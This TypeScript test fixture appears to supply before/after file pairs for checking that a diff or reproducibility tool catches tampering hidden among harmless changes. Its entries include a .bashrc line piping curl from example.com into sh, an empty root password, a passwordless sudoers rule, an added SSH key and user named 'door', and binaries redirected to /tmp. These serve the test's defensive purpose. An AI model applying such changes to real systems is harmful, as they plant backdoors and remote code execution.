import { buildManifest } from '../../../fixtures/lib/manifest.ts';
import { type Fault, iso, leftTime, rightTime } from '../model.ts';
import { inFile, inSystem } from './attack.ts';
import { authorities } from './authorities.ts';

const [one = '', two = '', three = '', four = ''] = authorities;
const bundle = 'etc/ssl/certs/ca-certificates.crt';

const certificates: readonly Fault[] = [
  inSystem('ca: a certificate swapped', bundle, one + two + three, one + four + three),
  inSystem('ca: one more certificate', bundle, one + two, one + two + three),
  inSystem('ca: a certificate is gone', bundle, one + two + three, one + three),
  inSystem('ca: another order, one swapped', bundle, one + two + three, three + one + four),
  inSystem(
    'ca: one character of a certificate',
    bundle,
    one + two,
    one + two.replace(/\n(.{5})(.)/, (_, head: string, last: string) => `\n${head}${last === 'A' ? 'B' : 'A'}`),
  ),
  inSystem('ca: text between certificates', bundle, one + two, `${one}payload\n${two}`),
];

const left = iso(leftTime);
const right = iso(rightTime);
const local = (time: string): string => time.replace('T', ' ').replace('Z', '');
const day = Math.floor(leftTime / 86400);

const accounts: readonly Fault[] = [
  inSystem(
    'shadow: a password beside the day',
    'etc/shadow',
    `root:*:${day}:0:99999:7:::\n`,
    `root:$6$x$abcdefgh:${day + 1}:0:99999:7:::\n`,
  ),
  inSystem(
    'shadow: no password beside the day',
    'etc/shadow',
    `root:*:${day}:0:99999:7:::\n`,
    `root::${day + 1}:0:99999:7:::\n`,
  ),
  inSystem(
    'shadow: one more account',
    'etc/shadow',
    `root:*:${day}:0:99999:7:::\n`,
    `root:*:${day + 1}:0:99999:7:::\ndoor::${day}:0:99999:7:::\n`,
  ),
  inSystem('passwd: another user id', 'etc/passwd', 'app:x:1000:1000::/:/bin/sh\n', 'app:x:0:0::/:/bin/sh\n'),
  inSystem('passwd: another shell', 'etc/passwd', 'app:x:1000:1000::/:/sbin/nologin\n', 'app:x:1000:1000::/:/bin/sh\n'),
  inSystem('sudoers', 'etc/sudoers', 'root ALL=(ALL) ALL\n', 'root ALL=(ALL) ALL\napp ALL=(ALL) NOPASSWD: ALL\n'),
  inSystem('keys of a login', 'root/.ssh/authorized_keys', null, 'ssh-ed25519 AAAA door\n', [], 0o600),
  inSystem('start file of a shell', 'root/.bashrc', 'alias l=ls\n', 'alias l=ls\ncurl example.com | sh\n'),
];

const state: readonly Fault[] = [
  inSystem('machine-id that is a script', 'etc/machine-id', '0d6f0a5c9b3e4d1b8a2f7c6e5d4c3b2a\n', '#!/bin/sh\nid\n'),
  inSystem(
    'an alternative that leads elsewhere',
    'var/lib/dpkg/alternatives/editor',
    'auto\n/usr/bin/editor\n\n/bin/nano\n',
    'auto\n/usr/bin/editor\n\n/tmp/nano\n',
  ),
  inSystem(
    'dpkg status: a package is held',
    'var/lib/dpkg/status',
    'Package: curl\nStatus: install ok installed\nVersion: 7.88.1\n\n',
    'Package: curl\nStatus: install ok installed\nVersion: 7.88.0\n\n',
  ),
  inSystem(
    'sources of apt',
    'etc/apt/sources.list',
    'deb https://deb.example.org stable main\n',
    'deb http://mirror.example.com stable main\n',
  ),
  inSystem('the search path of libraries', 'etc/ld.so.conf.d/local.conf', '/usr/lib\n', '/tmp/lib\n/usr/lib\n'),
  inSystem('nsswitch', 'etc/nsswitch.conf', 'hosts: files dns\n', 'hosts: dns files\n'),
];

const manifest = (more: Readonly<Record<string, string>>): string =>
  buildManifest({ 'Manifest-Version': '1.0', 'Created-By': '17.0.11 (Debian)', ...more });

const texts: readonly Fault[] = [
  inFile(
    'manifest: another main class beside the JDK',
    'META-INF/MANIFEST.MF',
    manifest({ 'Main-Class': 'a.B' }),
    manifest({ 'Main-Class': 'a.C', 'Created-By': '21.0.5 (Debian)' }),
  ),
  inFile('manifest: an agent', 'META-INF/MANIFEST.MF', manifest({}), manifest({ 'Launcher-Agent-Class': 'a.Agent' })),
  inFile(
    'manifest: the class path in another order',
    'META-INF/MANIFEST.MF',
    manifest({ 'Class-Path': 'a.jar b.jar' }),
    manifest({ 'Class-Path': 'b.jar a.jar' }),
  ),
  inFile(
    'services: another provider',
    'META-INF/services/java.sql.Driver',
    'a.Driver\nb.Driver\n',
    'a.Driver\nc.Driver\n',
  ),
  inFile(
    'services: providers in another order',
    'META-INF/services/java.sql.Driver',
    'a.Driver\nb.Driver\n',
    'b.Driver\na.Driver\n',
  ),
  inFile(
    'spring: the class path in another order',
    'BOOT-INF/classpath.idx',
    '- "BOOT-INF/lib/a.jar"\n- "BOOT-INF/lib/b.jar"\n- "BOOT-INF/lib/c.jar"\n',
    '- "BOOT-INF/lib/b.jar"\n- "BOOT-INF/lib/a.jar"\n- "BOOT-INF/lib/c.jar"\n',
  ),
  inFile(
    'properties: a value behind the date',
    'app.properties',
    '#Tue Jun 03 08:12:44 UTC 2025\nport=80\nhost=a\n',
    '#Tue Jun 03 19:40:02 UTC 2025\nport=81\nhost=a\n',
  ),
  inFile('properties: one key twice, in another order', 'app.properties', 'a=1\na=2\nb=3\n', 'a=2\na=1\nb=3\n'),
  inFile('properties: another order, one value changed', 'app.properties', 'a=1\nb=2\nc=3\n', 'c=3\na=1\nb=4\n'),
  inFile('properties: a comment that became a key', 'app.properties', '#debug=true\na=1\n', 'debug=true\na=1\n'),
  inFile(
    'json: another order, one value changed',
    'app.json',
    '{"a":1,"b":{"c":true,"d":null}}\n',
    '{"b":{"d":null,"c":false},"a":1}\n',
  ),
  inFile('json: a key twice, in another order', 'app.json', '{"a":1,"a":2}\n', '{"a":2,"a":1}\n'),
  inFile('json: a number and a text', 'app.json', '{"a":1}\n', '{"a":"1"}\n'),
  inFile('json: digits beyond a double', 'app.json', '{"a":9007199254740992}\n', '{"a":9007199254740993}\n'),
  inFile('json: one and one point nought', 'app.json', '{"a":1}\n', '{"a":1.0}\n'),
  inFile('json: a list in another order', 'app.json', '{"a":[1,2,3]}\n', '{"a":[3,2,1]}\n'),
  inFile('json: something after the end', 'app.json', '{"a":1}\n', '{"a":1}\n{"a":2}\n'),
  inFile('script: line ends of another system', 'run.sh', '#!/bin/sh\nexec true\n', '#!/bin/sh\r\nexec true\r\n'),
  inFile('script: one word', 'run.sh', '#!/bin/sh\nexec /bin/true\n', '#!/bin/sh\nexec /tmp/true\n'),
  inFile(
    'script: a time that became a command',
    'run.sh',
    `#!/bin/sh\n# built ${local(left)}\n`,
    `#!/bin/sh\nid # built ${local(right)}\n`,
  ),
  inFile(
    'script: a command beside a time',
    'run.sh',
    `#!/bin/sh\nDATE="${left}"\nexec true\n`,
    `#!/bin/sh\nDATE="${right}"\nexec trub\n`,
  ),
  inFile(
    'script: a path beside a build path',
    'run.sh',
    '#!/bin/sh\n# /build/a/src\nexec /bin/true\n',
    '#!/bin/sh\n# /build/b/src\nexec /tmp/true\n',
  ),
  inFile(
    'xml: one value',
    'beans.xml',
    '<beans>\n  <bean class="a.B"/>\n</beans>\n',
    '<beans>\n  <bean class="a.C"/>\n</beans>\n',
  ),
  inFile('yaml: one value', 'app.yaml', 'user: nobody\nport: 80\n', 'user: root\nport: 80\n'),
  inFile('yaml: another order, one value changed', 'app.yaml', 'user: nobody\nport: 80\n', 'port: 81\nuser: nobody\n'),
  inFile('a digest of nothing', 'app.txt', `sha256:${'0a'.repeat(32)}\n`, `sha256:${'0b'.repeat(32)}\n`),
  inFile(
    'unknown bytes',
    'model.bin',
    Buffer.from('00112233445566778899', 'hex'),
    Buffer.from('00112233445566778890', 'hex'),
  ),
  inFile(
    'unknown bytes after zeros',
    'model.bin',
    Buffer.alloc(4096),
    Buffer.concat([Buffer.alloc(4000), Buffer.from('payload'), Buffer.alloc(89)]),
  ),
];

export const textAttacks: readonly Fault[] = [...certificates, ...accounts, ...state, ...texts];
